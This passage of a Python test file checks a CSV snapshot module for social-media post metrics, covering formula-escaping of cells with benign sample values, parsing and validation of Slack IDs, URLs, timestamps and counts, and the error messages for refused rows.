        (0, "0"),
        (51, "51"),
        (datetime(2024, 5, 6, 9, 0, tzinfo=UTC), "2024-05-06T09:00:00Z"),
        (
            datetime(2024, 5, 6, 11, 0, 0, 5, tzinfo=datetime.fromisoformat("2024-01-01T00:00+02:00").tzinfo),
            "2024-05-06T09:00:00.000005Z",
        ),
        ("plain", "plain"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_format_cell(value: object, expected: str) -> None:
    assert format_cell(value) == expected


@given(st.text())
def test_unguard_restores_whatever_guard_was_given(cell: str) -> None:
    assert unguard(guard(cell)) == cell
    assert not guard(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_written_text_reads_back_exactly(cells: list[str]) -> None:
    columns = [f"c{n}" for n in range(len(cells))]
    out = io.StringIO(newline="")
    write_csv([dict(zip(columns, cells, strict=True))], columns, out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == columns
    assert [unguard(cell) for cell in rows[1]] == cells


# ---------------------------------------------------------------- pure: parsing a row


def test_a_good_row_parses_to_a_canonical_snapshot() -> None:
    row = parse_snapshot_row(
        {
            **GOOD,
            "post_url": " https://twitter.com/TwoWay/status/1787?utm_source=slack ",
            "platform": "",
            "recorded_at": "2024-05-07T11:00:00.5+02:00",
            "recorded_by": "",
            "source": "",
        },
        7,
        now=LATER,
    )
    assert row == SnapshotRow(
        team_id=TEAM_A,
        channel_id=SOCIAL,
        url="https://twitter.com/TwoWay/status/1787?utm_source=slack",
        canonical_url="https://x.com/twoway/status/1787",
        platform="x",
        owner_user_id=ADA,
        post_shared_at=NOW,
        recorded_at=datetime(2024, 5, 7, 9, 0, 0, 500_000, tzinfo=UTC),
        comments_received=14,
        replies_sent=3,
        shares=20,
        likes=51,
        recorded_by=None,
        source=None,
    )


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"recorded_at": "2024-05-07T09:00:00+00:00"},
        {"recorded_at": "2024-05-07T04:00:00-05:00"},
        {"recorded_at": "20240507T090000Z"},
        {"channel_id": "G0SECRET01"},
        {"owner_user_id": "W0ENTERPR1"},
        {"comments_received": "0", "likes": " 007 "},
        {"likes": "2147483647"},
        {"source": "command"},
        {"platform": "Blog"},
        {"team_id": "'T0TWOWAY1", "likes": "'51"},
    ],
    ids=repr,
)
def test_rows_that_load(changes: dict[str, str]) -> None:
    assert isinstance(parse_snapshot_row({**GOOD, **changes}, 2, now=LATER), SnapshotRow)


def test_optional_columns_may_be_left_out() -> None:
    row = {k: v for k, v in GOOD.items() if k not in ("platform", "recorded_by", "source")}
    parsed = parse_snapshot_row(row, 2, now=LATER)
    assert isinstance(parsed, SnapshotRow)
    assert (parsed.platform, parsed.recorded_by, parsed.source) == ("x", None, None)


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"team_id": None}, "missing column: team_id"),
        ({"team_id": ""}, "team_id is blank"),
        ({"team_id": "C0SOCIAL01"}, "team_id 'C0SOCIAL01' is not a Slack team id (T…)"),
        ({"team_id": "t0twoway1"}, "team_id 't0twoway1' is not a Slack team id (T…)"),
        ({"channel_id": "U0ADA00001"}, "channel_id 'U0ADA00001' is not a Slack channel id (C…, G… or D…)"),
        (
            {"owner_user_id": "<@U0ADA00001>"},
            "owner_user_id '<@U0ADA00001>' is not a Slack user id (U… or W…)",
        ),
        ({"recorded_by": "B0TWOWAY1"}, "recorded_by 'B0TWOWAY1' is not a Slack user id (U… or W…)"),
        ({"post_url": "example.com/post"}, "post_url 'example.com/post' is not a link to a post"),
        (
            {"post_url": "https://files.slack.com/x"},
            "post_url 'https://files.slack.com/x' is not a link to a post",
        ),
        (
            {"post_url": "https://example.com/cat.jpg"},
            "post_url 'https://example.com/cat.jpg' is not a link to a post",
        ),
        (
            {"platform": "myspace"},
            "platform 'myspace' is not one of x, facebook, linkedin, instagram, threads, "
            "mastodon, bluesky, youtube, reddit, tiktok, medium, blog",
        ),
        (
            {"recorded_at": "2024-05-07 09:00"},
            "recorded_at '2024-05-07 09:00' has no time zone: add Z for UTC or an offset like +02:00",
        ),
        (
            {"recorded_at": "2024-05-07"},
            "recorded_at '2024-05-07' has no time zone: add Z for UTC or an offset like +02:00",
        ),
        (
            {"recorded_at": "07/05/2024"},
            "recorded_at '07/05/2024' is not an ISO-8601 timestamp (e.g. 2024-05-06T09:30:00Z)",
        ),
        (
            {"recorded_at": "2024-02-30T09:00:00Z"},
            "recorded_at '2024-02-30T09:00:00Z' is not an ISO-8601 timestamp (e.g. 2024-05-06T09:30:00Z)",
        ),
        (
            {"post_shared_at": "0001-01-01T00:00:00+01:00"},
            "post_shared_at '0001-01-01T00:00:00+01:00' is out of range",
        ),
        ({"likes": "-1"}, "likes '-1' is not a whole number of 0 or more"),
        ({"likes": "1e3"}, "likes '1e3' is not a whole number of 0 or more"),
        ({"likes": "²"}, "likes '²' is not a whole number of 0 or more"),
        ({"replies_sent": ""}, "replies_sent is blank"),
        ({"shares": "2147483648"}, "shares '2147483648' is too large (at most 2,147,483,647)"),
        ({"source": "Thread"}, "source 'Thread' is not one of thread, command, import, fetched"),
    ],
    ids=repr,
)
def test_rows_that_are_refused(changes: dict[str, str | None], reason: str) -> None:
    row = {k: v for k, v in {**GOOD, **changes}.items() if v is not None}
    result = parse_snapshot_row(row, 42, now=LATER)
    assert result == RowError(42, reason)
    assert str(result) == f"line 42: {reason}"


def test_a_long_bad_value_is_shortened_in_the_reason() -> None:
    result = parse_snapshot_row({**GOOD, "owner_user_id": "U" * 100 + "\n"}, 3, now=LATER)
    assert result == RowError(3, f"owner_user_id '{'U' * 60}…' is not a Slack user id (U… or W…)")


def test_malformed_csv_is_a_bad_row_and_reading_goes_on() -> None:
    header = ",".join(SNAPSHOT_COLUMNS)
    good = ",".join(GOOD[column] for column in SNAPSHOT_COLUMNS)
    unterminated = good.replace("thread", '"thread')
    content = f'{header}\n"T0TWOWAY1"x,C0SOCIAL01\n{good}\n{unterminated}\n'
    results = list(read_snapshot_csv(io.StringIO(content, newline=""), now=LATER))
    assert [(line, type(result).__name__) for line, result in results] == [
        (2, "RowError"),
        (3, "SnapshotRow"),
        (4, "RowError"),
    ]
    assert str(results[0][1]) == "line 2: not valid CSV: ',' expected after '\"'"
    assert str(results[2][1]) == "line 4: not valid CSV: unexpected end of data"


_KEYS = st.sampled_from(SNAPSHOT_COLUMNS) | st.text(max_size=12)


@given(st.dictionaries(_KEYS, st.text()), st.integers(min_value=2))
def test_parse_snapshot_row_never_raises_on_arbitrary_cells(row: dict[str, str], line: int) -> None:
    result = parse_snapshot_row(row, line, now=LATER)
    assert isinstance(result, SnapshotRow | RowError)
    if isinstance(result, RowError):
        assert result.line == line
        assert len(result.reason.splitlines()) == 1


@given(st.sampled_from(SNAPSHOT_COLUMNS), st.text())
def test_parse_snapshot_row_never_raises_when_one_cell_of_a_good_row_is_junk(column: str, junk: str) -> None:
    result = parse_snapshot_row({**GOOD, column: junk}, 2, now=LATER)
    assert isinstance(result, SnapshotRow | RowError)
    if isinstance(result, RowError):
        assert result.reason.startswith((column, "missing"))
